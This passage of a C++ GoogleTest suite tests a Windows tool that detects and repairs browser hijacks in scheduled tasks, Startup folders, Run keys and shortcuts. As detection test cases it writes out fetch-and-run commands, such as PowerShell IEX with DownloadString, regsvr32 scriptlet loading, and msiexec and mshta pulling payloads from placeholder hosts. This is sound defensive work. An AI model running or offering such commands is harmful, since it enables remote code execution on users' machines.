#include <gtest/gtest.h>

#include "repair/startup/CachedTaskActions.h"
#include "repair/startup/EncodedCommand.h"
#include "repair/startup/ScheduledTaskEntries.h"
#include "repair/startup/ServedHijacks.h"
#include "repair/startup/ServiceImages.h"
#include "repair/startup/StartupCommand.h"
#include "repair/startup/StartupFolderEntries.h"
#include "repair/users/UserHives.h"
#include "repair/users/UserPaths.h"
#include "tests/native/RepairFixture.h"
#include "text/RegistryEncoding.h"
#include "text/Utf16.h"

namespace tovask::test {
namespace {

// What PowerShell's -EncodedCommand carries for the script.
std::wstring encoded(std::wstring_view script) {
    constexpr std::string_view kDigits =
        "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    const auto bytes = toUtf16LeBytes(script);
    std::wstring text;
    for (std::size_t at = 0; at < bytes.size(); at += 3) {
        const auto byte = [&](std::size_t i) {
            return at + i < bytes.size() ? static_cast<unsigned char>(bytes[at + i]) : 0u;
        };
        const auto group = (byte(0) << 16) | (byte(1) << 8) | byte(2);
        for (std::size_t i = 0; i < 4; ++i) {
            text += i <= bytes.size() - at ? kDigits[(group >> (18 - 6 * i)) & 63] : L'=';
        }
    }
    return text;
}

TEST(EncodedCommand, DecodesWhatPowerShellTakesAndNothingElse) {
    EXPECT_EQ(decodedPowerShellCommand(L"SQBFAFgA"), L"IEX");
    EXPECT_EQ(decodedPowerShellCommand(encoded(L"Start-Process chrome")), L"Start-Process chrome");
    EXPECT_EQ(decodedPowerShellCommand(L"SQBF\r\nAFgA "), L"IEX");
    for (const auto bad : {L"SQBFAFg", L"SQB$AFgA", L"QQ==", L"", L"S=BFAFgA"}) {
        EXPECT_EQ(decodedPowerShellCommand(bad), std::nullopt) << testing::PrintToString(bad);
    }
}

struct TaskCommandCase {
    std::string name;
    std::wstring command;
    bool hijack;

    friend void PrintTo(const TaskCommandCase& c, std::ostream* out) { *out << c.name; }
};

class TaskCommands : public testing::TestWithParam<TaskCommandCase> {};

TEST_P(TaskCommands, AreJudgedByWhatTheirScriptDoes) {
    EXPECT_EQ(startupCommandHijack(GetParam().command).has_value(), GetParam().hijack);
}

const std::wstring kPowerShell = L"powershell.exe -NoProfile -WindowStyle Hidden -enc ";

// clang-format off
INSTANTIATE_TEST_SUITE_P(
    Commands, TaskCommands,
    testing::Values(
        TaskCommandCase{"EncodedBrowserWithAddress", kPowerShell + encoded(L"Start-Process msedge.exe https://buscar.example"), true},
        TaskCommandCase{"EncodedLoadExtension", L"pwsh -e " + encoded(L"& $b --load-extension=$env:LOCALAPPDATA\\ext"), true},
        TaskCommandCase{"EncodedExtensionDownload", kPowerShell + encoded(L"iwr https://cdn.example/a.crx -OutFile $f"), true},
        TaskCommandCase{"EncodedHousekeeping", kPowerShell + encoded(L"Remove-Item $env:TEMP\\*.log"), false},
        TaskCommandCase{"NotDecodable", kPowerShell + L"%%%%", true},
        TaskCommandCase{"PlainBrowserExtension", LR"("C:\Program Files\Google\Chrome\Application\chrome.exe" --load-extension=C:\ProgramData\x)", true},
        TaskCommandCase{"SystemMaintenance", LR"(%windir%\system32\rundll32.exe Windows.Storage.ApplicationData.dll,CleanupTemporaryState)", false}),
    [](const testing::TestParamInfo<TaskCommandCase>& info) { return info.param.name; });
// clang-format on

// The scheduler's registry cache of a task's actions, little-endian.
std::string number(std::uint32_t value, std::size_t size) {
    std::string bytes;
    for (std::size_t i = 0; i < size; ++i) {
        bytes += static_cast<char>((value >> (8 * i)) & 0xff);
    }
    return bytes;
}
std::string counted(std::wstring_view text) {
    const auto bytes = toUtf16LeBytes(text);
    return number(static_cast<std::uint32_t>(bytes.size()), 4) + bytes;
}
std::string execAction(const TaskAction& action, bool flags = true) {
    return number(0x6666, 2) + counted(L"id") + counted(action.command) +
           counted(action.arguments) + counted(L"C:\\") + (flags ? number(1, 2) : "");
}
std::string version3(const std::string& actions) {
    return number(3, 2) + counted(L"Author") + actions;
}
const TaskAction kBrowserAction{L"chrome.exe", L"--load-extension=C:\\x"};
const std::string kOtherActions =
    number(0x7777, 2) + counted(L"") + std::string(16, '\x11') + counted(L"datos") +
    number(0x8888, 2) + counted(L"") + std::string(32, '\0') + number(1, 4) + counted(L"a.txt") +
    number(1, 4) + counted(L"X-A") + counted(L"1") + number(0x9999, 2) + counted(L"") +
    counted(L"Título") + counted(L"Texto");

struct CachedActionsCase {
    std::string name;
    std::string value;
    std::vector<TaskAction> exec;
    bool whole;

    friend void PrintTo(const CachedActionsCase& c, std::ostream* out) { *out << c.name; }
};

class CachedActions : public testing::TestWithParam<CachedActionsCase> {};

TEST_P(CachedActions, AreReadAsFarAsTheirBytesHold) {
    const auto& bytes = GetParam().value;
    EXPECT_EQ(decodeCachedTaskActions(std::vector<std::uint8_t>(bytes.begin(), bytes.end())),
              (CachedTaskActions{GetParam().exec, GetParam().whole}));
}

const std::string kTwoExec = version3(execAction(kBrowserAction) + execAction({L"b.exe", L""}));
std::string thirtyThreeActions() {
    std::string actions;
    for (int i = 0; i < 33; ++i) {
        actions += execAction({L"a.exe", L""});
    }
    return version3(actions);
}

// clang-format off
INSTANTIATE_TEST_SUITE_P(
    Values, CachedActions,
    testing::Values(
        CachedActionsCase{"Version1", number(1, 2) + execAction(kBrowserAction, false), {kBrowserAction}, true},
        CachedActionsCase{"Version3AfterOtherTypes", version3(kOtherActions + execAction(kBrowserAction)), {kBrowserAction}, true},
        CachedActionsCase{"NoActions", version3(""), {}, true},
        CachedActionsCase{"CutInTheSecond", kTwoExec.substr(0, kTwoExec.size() - 3), {kBrowserAction}, false},
        CachedActionsCase{"LengthPastTheEnd", version3(number(0x6666, 2) + counted(L"") + number(0xfffffff0, 4) + "ab"), {}, false},
        CachedActionsCase{"OddLength", version3(number(0x6666, 2) + counted(L"") + number(3, 4) + "abc" + counted(L"") + counted(L"") + number(0, 2)), {}, false},
        CachedActionsCase{"HugeAttachmentCount", version3(number(0x8888, 2) + counted(L"") + std::string(32, '\0') + number(0xffffffff, 4) + counted(L"a")), {}, false},
        CachedActionsCase{"UnknownTypeEndsTheReading", version3(execAction(kBrowserAction) + number(0x5555, 2) + counted(L"")), {kBrowserAction}, false},
        CachedActionsCase{"UnknownVersion", number(2, 2) + execAction(kBrowserAction), {}, false},
        CachedActionsCase{"MoreActionsThanATaskHolds", thirtyThreeActions(), std::vector<TaskAction>(32, TaskAction{L"a.exe", L""}), false},
        CachedActionsCase{"Empty", "", {}, false}),
    [](const testing::TestParamInfo<CachedActionsCase>& info) { return info.param.name; });
// clang-format on

enum class Verdict { None, Repairable, ReportOnly };

struct LauncherCase {
    std::string name;
    std::wstring command;
    Verdict verdict;

    friend void PrintTo(const LauncherCase& c, std::ostream* out) { *out << c.name; }
};

class HiddenLaunchers : public testing::TestWithParam<LauncherCase> {};

TEST_P(HiddenLaunchers, AreJudgedAsPowerShellAndWindowsReadThem) {
    const auto hijack = startupCommandHijack(GetParam().command);
    EXPECT_EQ(!hijack              ? Verdict::None
              : hijack->repairable ? Verdict::Repairable
                                   : Verdict::ReportOnly,
              GetParam().verdict);
}

const std::wstring kFetchAndRun = encoded(L"IEX (New-Object Net.WebClient).DownloadString($u)");
const std::wstring kQuietScript = encoded(L"Remove-Item $env:TEMP\\*.log");

// clang-format off
INSTANTIATE_TEST_SUITE_P(
    Commands, HiddenLaunchers,
    testing::Values(
        LauncherCase{"DoubleDash", L"powershell --EncodedCommand " + kFetchAndRun, Verdict::Repairable},
        LauncherCase{"EnDash", L"powershell \u2013enc " + kFetchAndRun, Verdict::Repairable},
        LauncherCase{"EmDash", L"powershell.exe \u2014e " + kFetchAndRun, Verdict::Repairable},
        LauncherCase{"HorizontalBar", L"pwsh \u2015ec " + kFetchAndRun, Verdict::Repairable},
        LauncherCase{"SlashThenDash", L"pwsh.exe /-encodedc " + encoded(L"Start-BitsTransfer $u $f; & $f"), Verdict::Repairable},
        LauncherCase{"QuotedWithABlank", L"powershell \" -enc\" " + kFetchAndRun, Verdict::Repairable},
        LauncherCase{"PlainCommand", LR"x(powershell -nop -w hidden -c "Invoke-Expression (Invoke-RestMethod $u)")x", Verdict::Repairable},
        LauncherCase{"PositionalScript", LR"(pwsh "i`ex $env:CARGA")", Verdict::Repairable},
        LauncherCase{"HiddenBypassingUnreadable", L"powershell -w hidden -ep bypass -enc %%%%", Verdict::ReportOnly},
        LauncherCase{"HiddenBypassingQuiet", L"powershell -win 1 -exec b -enc " + kQuietScript, Verdict::ReportOnly},
        LauncherCase{"VisibleQuiet", L"powershell -ex bypass -enc " + kQuietScript, Verdict::None},
        LauncherCase{"EncInTheCommandsScript", L"powershell -c Write-Output -enc x", Verdict::None},
        LauncherCase{"ExplorerOpensAddress", L"explorer.exe https://anuncios.example", Verdict::Repairable},
        LauncherCase{"ConhostHeadless", L"conhost.exe --headless --width 80 powershell -e " + kFetchAndRun, Verdict::Repairable},
        LauncherCase{"CmdRunsPowerShell", LR"(cmd /d /c "pwsh -c iex $env:X")", Verdict::Repairable},
        LauncherCase{"Regsvr32Scriptlet", L"regsvr32 /s /n /u /i:https://carga.example/a.sct scrobj.dll", Verdict::Repairable},
        LauncherCase{"MsiexecFromTheWeb", L"msiexec /q /i https://carga.example/a.msi", Verdict::Repairable},
        LauncherCase{"MshtaOverWebDav", LR"(mshta.exe \\carga.example@SSL\DavWWWRoot\a.hta)", Verdict::Repairable}),
    [](const testing::TestParamInfo<LauncherCase>& info) { return info.param.name; });
// clang-format on

// The report shows what a hidden script does, on one line, so that the
// extension it reinstalls is shown with the lock that forces it.
TEST(StartupFindingText, NamesTheScriptAnEncodedCommandHides) {
    const std::wstring id = L"abcdefghijklmnopabcdefghijklmnop";
    const auto command = kPowerShell + encoded(L"reg add $k /d " + id + L"\r\n\texit");
    EXPECT_EQ(startupFindingText(command, L"ejecuta una orden codificada"),
              command +
                  L"; ejecuta una orden codificada; la orden codificada dice: reg add $k /d " + id +
                  L"   exit");
    EXPECT_EQ(startupFindingText(L"chrome.exe https://a.example", L"abre"),
              L"chrome.exe https://a.example; abre");
    EXPECT_EQ(
        encodedScriptOf(L"conhost --headless cmd /c \"pwsh \u2014ec " + encoded(L"exit") + L"\""),
        L"exit");
}

TEST(ServedHijacks, AreTheProxysProgramAndTheLoadedExtensionsFolders) {
    // Only what a repairable finding established counts, never its text.
    const auto established = [](bool repairable, FindingEvidence evidence) {
        Finding finding;
        finding.holds = L"--load-extension=C:\\Users\\ana\\texto";
        finding.repairable = repairable;
        finding.evidence = std::move(evidence);
        return finding;
    };
    const std::vector<Finding> found{
        established(true, {{L"C:\\Users\\ana\\AppData\\p\\proxy.exe"}, {}}),
        established(true, {{}, {L"C:\\Users\\ana\\ext", L"C:\\Otra"}}),
        established(false, {{L"C:\\Users\\ana\\solo\\s.exe"}, {L"C:\\Users\\ana\\informada"}})};
    const ServedHijacks served(found, {});
    EXPECT_TRUE(served.servedBy(L"c:\\users\\ana\\appdata\\p\\PROXY.exe -q"));
    EXPECT_TRUE(served.servedBy(L"\"C:\\Users\\ana\\ext\\actualiza.exe\""));
    EXPECT_TRUE(served.servedBy(L"C:\\Otra\\a.exe"));
    EXPECT_FALSE(served.servedBy(L"C:\\Users\\ana\\extra\\a.exe"));
    EXPECT_FALSE(served.servedBy(L"\"C:\\Program Files\\Audio\\audio.exe\" /tray"));
    EXPECT_FALSE(served.servedBy(L"C:\\Users\\ana\\solo\\s.exe"));
    EXPECT_FALSE(served.servedBy(L"C:\\Users\\ana\\informada\\a.exe"));
    EXPECT_FALSE(served.servedBy(L"C:\\Users\\ana\\texto\\a.exe"));
}

TEST(SystemFolders, AreWindowssAndTheProfilesTheSystemNames) {
    fake::FakePlatform platform;
    platform.windowsFolder = L"E:\\WinNT";
    platform.RegWrite(std::wstring(kProfileListKey) + L"S-1-5-21-1-2-3-1001\\ProfileImagePath",
                      L"%SystemRoot%\\..\\Perfiles\\bea", RegistryType::String);
    FailureLog failures(platform);
    const auto system = SystemFolders::of(platform, failures);
    EXPECT_TRUE(system.keepsProgram(L"E:\\WinNT\\System32\\a.exe"));
    EXPECT_TRUE(system.refusesFolder(L"E:\\Perfiles\\bea"));
    EXPECT_FALSE(system.refusesFolder(L"E:\\Perfiles\\bea\\ext"));
    EXPECT_TRUE(failures.entries().empty());
}

TEST(SystemFolders, ThatCannotBeNamedAreAFailureAndTheStandardOnesStand) {
    fake::FakePlatform platform;
    platform.failWhere("GetSpecialFolder", L"", errc(std::errc::permission_denied));
    platform.failWhere("RegReadTree", L"", errc(std::errc::permission_denied));
    FailureLog failures(platform);
    const auto system = SystemFolders::of(platform, failures);
    EXPECT_EQ(failures.entries().size(), 2u);
    EXPECT_TRUE(system.keepsProgram(L"C:\\Windows\\a.exe"));
    EXPECT_TRUE(system.refusesFolder(L"C:\\Users\\ana"));
}

struct FolderCase {
    std::string name;
    std::wstring folder;
    bool refused;

    friend void PrintTo(const FolderCase& c, std::ostream* out) { *out << c.name; }
};

class ServedHijackFolders : public testing::TestWithParam<FolderCase> {};

// Windows in E:\WinNT, a profile outside any Users folder.
TEST_P(ServedHijackFolders, AreNeverTheSystemsNorAWholeProfile) {
    const SystemFolders system(L"E:\\WinNT", {L"D:\\Perfiles\\bea"});
    Finding shortcut;
    shortcut.evidence.extensionFolders = {GetParam().folder};
    const ServedHijacks served(std::vector{shortcut}, system);
    EXPECT_EQ(system.refusesFolder(GetParam().folder), GetParam().refused);
    EXPECT_EQ(!served.servedBy(LR"(")" + GetParam().folder + LR"(\a\b.exe")"), GetParam().refused);
}

// clang-format off
INSTANTIATE_TEST_SUITE_P(
    Folders, ServedHijackFolders,
    testing::Values(
        FolderCase{"DriveRoot", L"C:\\", true},
        FolderCase{"UsersFolder", L"C:\\Users", true},
        FolderCase{"WholeProfile", L"c:\\users\\ana\\", true},
        FolderCase{"ProfilesLocalData", L"C:\\Users\\ana\\AppData\\Local", true},
        FolderCase{"MicrosoftsUserPrograms", L"C:\\Users\\ana\\AppData\\Local\\Microsoft\\OneDrive", true},
        FolderCase{"WindowsBelow", L"C:\\Windows\\System32", true},
        FolderCase{"EnvironmentReference", L"%windir%", true},
        FolderCase{"ProgramFilesBelow", L"C:\\Program Files\\Google", true},
        FolderCase{"ProgramFiles32", L"D:\\Program Files (x86)", true},
        FolderCase{"ProgramDataWhole", L"C:\\ProgramData", true},
        FolderCase{"MicrosoftsSharedPrograms", L"C:\\ProgramData\\Microsoft\\Windows Defender", true},
        FolderCase{"ProfileElsewhere", L"D:\\Perfiles\\bea", true},
        FolderCase{"HoldsAProfile", L"D:\\Perfiles", true},
        FolderCase{"WindowsElsewhere", L"E:\\WinNT\\System32", true},
        FolderCase{"ClimbsToAProfile", L"C:\\Users\\ana\\ext\\..\\..\\bea", true},
        FolderCase{"ShortName", L"C:\\PROGRA~1\\Google", true},
        FolderCase{"NetworkShare", L"\\\\servidor\\c$\\ext", true},
        FolderCase{"Relative", L"ext", true},
        FolderCase{"InLocalData", L"C:\\Users\\ana\\AppData\\Local\\ext", false},
        FolderCase{"InProgramData", L"C:\\ProgramData\\ext", false},
        FolderCase{"InProfileElsewhere", L"D:\\Perfiles\\bea\\ext", false}),
    [](const testing::TestParamInfo<FolderCase>& info) { return info.param.name; });
// clang-format on

TEST(StartupFilePaths, OnlyTaskAndStartupFilesAreInReach) {
    EXPECT_TRUE(isScheduledTaskFilePath(L"C:\\Windows\\Sysnative\\Tasks\\Carpeta\\Tarea"));
    EXPECT_TRUE(isScheduledTaskFilePath(L"C:\\WINDOWS\\system32\\Tasks\\Tarea"));
    EXPECT_FALSE(isScheduledTaskFilePath(L"C:\\WINDOWS\\system32\\Tasks"));
    EXPECT_FALSE(isScheduledTaskFilePath(L"C:\\Users\\ana\\system32\\Tasks\\x"));
    EXPECT_TRUE(
        isStartupFolderFilePath(L"C:\\Users\\ana\\AppData\\Roaming\\Microsoft\\Windows\\Start "
                                L"Menu\\Programs\\Startup\\a.bat"));
    EXPECT_FALSE(isStartupFolderFilePath(L"C:\\Users\\ana\\Start Menu\\Programs\\a.bat"));
    EXPECT_FALSE(isStartupFolderFilePath(L"C:\\Start Menu\\Programs\\Startup\\"));
}

constexpr std::wstring_view kProfiles =
    L"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\ProfileList\\";
const std::wstring kTasks = L"C:\\WINDOWS\\system32\\Tasks";
const std::wstring kUserStartup =
    L"C:\\Users\\ana\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup";
const std::wstring kCommonStartup =
    L"C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\StartUp";
const std::wstring kChrome = L"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe";

std::string lnk(const std::wstring& target, std::wstring_view arguments) {
    return fake::fakeShortcutBytes(
        {target, std::wstring(arguments), L"C:\\", target, 0, 0, 1, L"", L""});
}

std::string taskBytes(bool enabled, std::wstring_view command, std::wstring_view arguments) {
    return fake::fakeTaskBytes({enabled,
                                {{L"C:\\Windows\\system32\\sc.exe", L"start x"},
                                 {std::wstring(command), std::wstring(arguments)}}});
}

// A machine with hijacking and harmless tasks and Startup files, Internet
// Explorer already repaired; the run looks at the start-up programs alone.
class StartupSources : public testing::Test {
  protected:
    void SetUp() override {
        auto& platform = bench.platform;
        platform.registry.addKeysEveryWindowsHas();
        platform.RegWrite(std::wstring(kProfiles) + platform.programUserSid + L"\\ProfileImagePath",
                          L"C:\\Users\\ana", RegistryType::String);
        platform.RegWrite(
            L"HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\"
            L"User Shell Folders\\Common Startup",
            kCommonStartup, RegistryType::String);
        bench.addFiles({
            {kTasks + L"\\Actualizador", taskBytes(true, kChrome, L"--load-extension=C:\\x")},
            {kTasks + L"\\Microsoft\\Windows\\Limpieza",
             taskBytes(true, L"cleanmgr.exe", L"/autoclean")},
            {kTasks + L"\\Apagada", taskBytes(false, kChrome, L"https://buscar.example")},
            {kUserStartup + L"\\Noticias.lnk", lnk(kChrome, L"https://noticias.example")},
            {kUserStartup + L"\\carga.vbs", "CreateObject(\"WScript.Shell\").Run \"x\""},
            {kUserStartup + L"\\desktop.ini", "[.ShellClassInfo]"},
            {kCommonStartup + L"\\Audio.lnk", lnk(L"C:\\Audio\\audio.exe", L"/tray")},
        });
        bench.press();  // Internet Explorer alone: the window's question is answered no
        bench.view.notOffered = everyFindingKind();
        bench.view.notOffered.erase(FindingKind::Startup);
        bench.view.repairFindings = true;
        before_ = bench.fileContents();
    }
    std::optional<TaskDefinition> task(std::wstring_view name) {
        const auto read = bench.platform.ReadTaskFile(kTasks + L"\\" + std::wstring(name));
        return read.ok() ? std::optional(read.value()) : std::nullopt;
    }
    std::map<std::wstring, std::string> originals() { return bench.filesBesideTheBackups(); }

    RepairBench bench;
    std::map<std::wstring, std::string> before_;
};

TEST_F(StartupSources, CheckRepairCheckAndUndo) {
    ASSERT_EQ(bench.check(), RunOutcome::RepairNeeded);
    const auto& asked = bench.view.questions.back();
    EXPECT_EQ(asked.size(), 3u) << testing::PrintToString(asked);
    for (const auto* place : {L"\\Actualizador", L"Noticias.lnk", L"carga.vbs"}) {
        EXPECT_TRUE(std::ranges::any_of(asked, [&](const Finding& finding) {
            return finding.place.find(place) != std::wstring::npos;
        })) << testing::PrintToString(place);
    }
    EXPECT_EQ(std::ranges::count_if(
                  bench.view.lines,
                  [](auto& line) { return line.find(L"Noticias.lnk") != std::wstring::npos; }),
              1)
        << "a shortcut in Startup is the start-up programs' alone";

    bench.press();
    EXPECT_TRUE(bench.errorLines().empty()) << testing::PrintToString(bench.view.lines);
    EXPECT_FALSE(task(L"Actualizador")->enabled);
    EXPECT_TRUE(task(L"Microsoft\\Windows\\Limpieza")->enabled);
    EXPECT_FALSE(bench.bytesOf(kUserStartup + L"\\Noticias.lnk"));
    EXPECT_FALSE(bench.bytesOf(kUserStartup + L"\\carga.vbs"));
    EXPECT_TRUE(bench.bytesOf(kCommonStartup + L"\\Audio.lnk"));

    bench.view.repairFindings = false;
    EXPECT_EQ(bench.check(), RunOutcome::Done);
    bench.undo();
    EXPECT_EQ(originals(), before_);
}

TEST_F(StartupSources, UndoLeavesAFileThatTookTheRemovedOnesPlace) {
    bench.press();
    bench.platform.files.addFile(kUserStartup + L"\\carga.vbs", "otro");
    bench.undo();
    EXPECT_EQ(bench.bytesOf(kUserStartup + L"\\carga.vbs"), "otro");
    EXPECT_TRUE(reportsFailureOf(bench.view.lines, kUserStartup + L"\\carga.vbs"));
    EXPECT_TRUE(bench.bytesOf(kUserStartup + L"\\Noticias.lnk"));
}

TEST_F(StartupSources, AnUnreadableTaskIsAnErrorAndTheRestGoesOn) {
    bench.platform.files.addFile(kTasks + L"\\Roto", "<Task>");
    bench.press();
    EXPECT_TRUE(reportsFailureOf(bench.view.lines, kTasks + L"\\Roto"));
    EXPECT_FALSE(task(L"Actualizador")->enabled);
}

// Offered with /startup alone: the task and the lock it reinstalls, not
// another browser's list, which only the notes of the pair name.
TEST_F(StartupSources, OffersTheLockATaskReinstallsAndNoOther) {
    const std::wstring chromeId = L"abcdefghijklmnopabcdefghijklmnop";
    const std::wstring policies = L"HKLM\\SOFTWARE\\Policies\\";
    bench.platform.RegWrite(policies + L"Google\\Chrome\\ExtensionInstallForcelist\\1",
                            chromeId + L";https://malo.example/u", RegistryType::String);
    bench.platform.RegWrite(policies + L"Microsoft\\Edge\\ExtensionInstallForcelist\\1",
                            L"ponmlkjihgfedcbaponmlkjihgfedcba;https://otro.example/u",
                            RegistryType::String);
    bench.addFiles({{kTasks + L"\\Reinstala",
                     taskBytes(true, L"powershell.exe",
                               L"-c iwr https://malo.example/" + chromeId + L".crx")}});
    ASSERT_EQ(bench.check(), RunOutcome::RepairNeeded);
    const auto& asked = bench.view.questions.back();
    const auto offered = [&](std::wstring_view place) {
        return std::ranges::any_of(asked, [&](const Finding& finding) {
            return finding.place.find(place) != std::wstring::npos;
        });
    };
    EXPECT_TRUE(offered(L"\\Reinstala"));
    EXPECT_TRUE(offered(L"Chrome\\ExtensionInstallForcelist"));
    EXPECT_FALSE(offered(L"Edge\\ExtensionInstallForcelist"));
}

constexpr std::wstring_view kTaskCache =
    L"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\";
constexpr std::wstring_view kCacheId = L"{0F3A}";

// An entry of the scheduler's cache for the task named `path`, which its tree
// leads to or not.
void addCachedTask(fake::FakePlatform& platform, const std::wstring& path,
                   const std::string& actions, bool treeLeadsHere) {
    const auto key = std::wstring(kTaskCache) + L"Tasks\\" + std::wstring(kCacheId) + L"\\";
    platform.RegWrite(key + L"Path", path, RegistryType::String);
    ASSERT_FALSE(platform.RegWriteRaw(
        key, L"Actions",
        {regtype::kBinary, std::vector<std::uint8_t>(actions.begin(), actions.end())},
        RegistryView::Default));
    platform.RegWrite(std::wstring(kTaskCache) + L"Tree" + path + L"\\Id",
                      treeLeadsHere ? kCacheId : L"{otra}", RegistryType::String);
}

struct CachedTaskCase {
    std::string name;
    std::wstring path;
    std::string actions;
    bool treeLeadsHere;
    // Per finding placed at the path: L (left) or R (repaired), and whether
    // it is the file's hijack, the cache's, or says the two differ.
    std::wstring expected;
    bool unreadable;

    friend void PrintTo(const CachedTaskCase& c, std::ostream* out) { *out << c.name; }
};

class CachedTasks : public StartupSources, public testing::WithParamInterface<CachedTaskCase> {};

TEST_P(CachedTasks, AreJudgedAsTheSchedulerRunsThem) {
    const auto& row = GetParam();
    addCachedTask(bench.platform, row.path, row.actions, row.treeLeadsHere);
    FailureLog failures(bench.platform);
    std::wstring summary;
    for (const auto& task : findHijackingTasks(bench.platform, false, {}, failures)) {
        if (task.finding.place == row.path) {
            const auto& holds = task.finding.holds;
            summary += std::wstring(summary.empty() ? L"" : L",") +
                       (task.finding.repairable ? L"R:" : L"L:") +
                       (holds.starts_with(L"el Programador") ? L"differs"
                        : holds.ends_with(L"en el registro") ? L"cache"
                                                             : L"file");
        }
    }
    EXPECT_EQ(summary, row.expected);
    EXPECT_EQ(failures.entries().size(), row.unreadable ? 1u : 0u);
}

const std::wstring kHarmless = L"\\Microsoft\\Windows\\Limpieza";
const std::string kHijackInCache = version3(execAction(kBrowserAction));

// clang-format off
INSTANTIATE_TEST_SUITE_P(
    Entries, CachedTasks,
    testing::Values(
        CachedTaskCase{"HarmlessFileHijackingCache", kHarmless, kHijackInCache, true, L"L:differs,R:cache", false},
        CachedTaskCase{"TreeLeadsElsewhere", kHarmless, kHijackInCache, false, L"L:differs,L:cache", false},
        CachedTaskCase{"NoFile", L"\\Fantasma", kHijackInCache, true, L"L:cache", false},
        CachedTaskCase{"OtherHarmlessActions", kHarmless, version3(execAction({L"cleanmgr.exe", L"/sagerun:1"})), true, L"L:differs", false},
        CachedTaskCase{"SameAsTheFile", L"\\Actualizador", version3(execAction({L"C:\\Windows\\system32\\sc.exe", L"start x"}) + execAction({kChrome, L" --load-extension=C:\\x"})), true, L"R:file", false},
        CachedTaskCase{"CutAfterAHijack", kHarmless, kHijackInCache + "\x66", true, L"R:cache", true}),
    [](const testing::TestParamInfo<CachedTaskCase>& info) { return info.param.name; });
// clang-format on

TEST_F(StartupSources, ACachedHijackDisablesItsTaskAndUndoEnablesIt) {
    addCachedTask(bench.platform, kHarmless, kHijackInCache, true);
    bench.press();
    EXPECT_FALSE(task(L"Microsoft\\Windows\\Limpieza")->enabled);
    bench.undo();
    EXPECT_TRUE(task(L"Microsoft\\Windows\\Limpieza")->enabled);
}

// A file dropped into the scheduler's folder without a registration cannot be
// disabled: it goes to the backups, the check agrees, the undo brings it back.
TEST_F(StartupSources, ATaskFileTheSchedulerNeverRegisteredIsMovedToTheBackups) {
    const auto file = kTasks + L"\\Actualizador";
    bench.platform.tasksUnknownToScheduler.insert(file);
    bench.press();
    EXPECT_TRUE(bench.errorLines().empty()) << testing::PrintToString(bench.view.lines);
    EXPECT_FALSE(bench.bytesOf(file));
    bench.view.repairFindings = false;
    EXPECT_EQ(bench.check(), RunOutcome::Done);
    bench.undo();
    EXPECT_EQ(originals(), before_);
}

// A user's own preferences name folders as a hijacker's extension would, in
// text only: no start-up program of Windows or of the user is taken for one
// that serves it.
TEST_F(StartupSources, AFindingsTextLinksNoStartUpProgram) {
    bench.addFiles(
        {{L"C:\\Users\\ana\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Preferences",
          R"({"homepage":"https://inicio.example/--load-extension=C:\\Users,%windir%",)"
          R"("homepage_is_newtabpage":false})"},
         {kTasks + L"\\Microsoft\\Windows\\Defrag\\ScheduledDefrag",
          taskBytes(true, L"%windir%\\system32\\defrag.exe", L"-c -h -o -$")}});
    bench.platform.RegWrite(
        L"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDrive",
        LR"("C:\Users\ana\AppData\Local\Microsoft\OneDrive\OneDrive.exe" /background)",
        RegistryType::String);
    bench.platform.RegWrite(
        L"HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\SecurityHealth",
        L"%windir%\\system32\\SecurityHealthSystray.exe", RegistryType::String);
    bench.check();
    ASSERT_TRUE(std::ranges::any_of(bench.view.lines, [](const std::wstring& line) {
        return line.find(L"--load-extension=C:\\Users") != std::wstring::npos;
    }));
    for (const auto* place : {L"OneDrive", L"SecurityHealth", L"ScheduledDefrag"}) {
        EXPECT_TRUE(std::ranges::none_of(bench.view.lines, [&](const std::wstring& line) {
            return line.find(place) != std::wstring::npos;
        })) << testing::PrintToString(place);
    }
}

// A Run value loads an extension into the browser; the task that starts a
// program from that folder is the hijack's too.
TEST_F(StartupSources, ARunValuesLoadedExtensionLinksATaskInItsFolder) {
    bench.platform.RegWrite(L"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Ext",
                            L"chrome.exe --load-extension=C:\\ProgramData\\ext",
                            RegistryType::String);
    bench.addFiles({{kTasks + L"\\Ext", taskBytes(true, L"C:\\ProgramData\\ext\\u.exe", L"")}});
    ASSERT_EQ(bench.check(), RunOutcome::RepairNeeded);
    EXPECT_TRUE(std::ranges::any_of(bench.view.questions.back(), [](const Finding& finding) {
        return finding.place == L"\\Ext";
    })) << testing::PrintToString(bench.view.questions.back());
}

// The browser's shortcut on the shared desktop loads an extension from the
// user's folder; the program there that starts with the user is the hijack's.
TEST_F(StartupSources, AShortcutsLoadedExtensionLinksTheProgramInItsFolder) {
    const std::wstring desktop = L"C:\\Users\\Public\\Desktop";
    bench.platform.RegWrite(
        L"HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\"
        L"User Shell Folders\\Common Desktop",
        desktop, RegistryType::String);
    bench.addFiles({{desktop + L"\\Google Chrome.lnk",
                     lnk(kChrome, L"--load-extension=C:\\Users\\ana\\AppData\\Local\\ext")}});
    bench.platform.RegWrite(L"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Ext",
                            L"C:\\Users\\ana\\AppData\\Local\\ext\\actualiza.exe",
                            RegistryType::String);
    ASSERT_EQ(bench.check(), RunOutcome::RepairNeeded);
    EXPECT_TRUE(std::ranges::any_of(bench.view.questions.back(), [](const Finding& finding) {
        return finding.kind == FindingKind::Startup && finding.place.ends_with(L"\\Run\\Ext");
    })) << testing::PrintToString(bench.view.questions.back());
}

// The user's proxy points at a program the user's Run key starts: the
// program is the proxy hijack's.
TEST_F(StartupSources, AProxysServingProgramIsTheHijackOfTheRunValueStartingIt) {
    const std::wstring program = L"C:\\Users\\ana\\AppData\\Roaming\\Ofertas\\ofertas.exe";
    const std::wstring settings =
        L"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Internet Settings\\";
    bench.platform.RegWrite(settings + L"ProxyServer", L"127.0.0.1:8080", RegistryType::String);
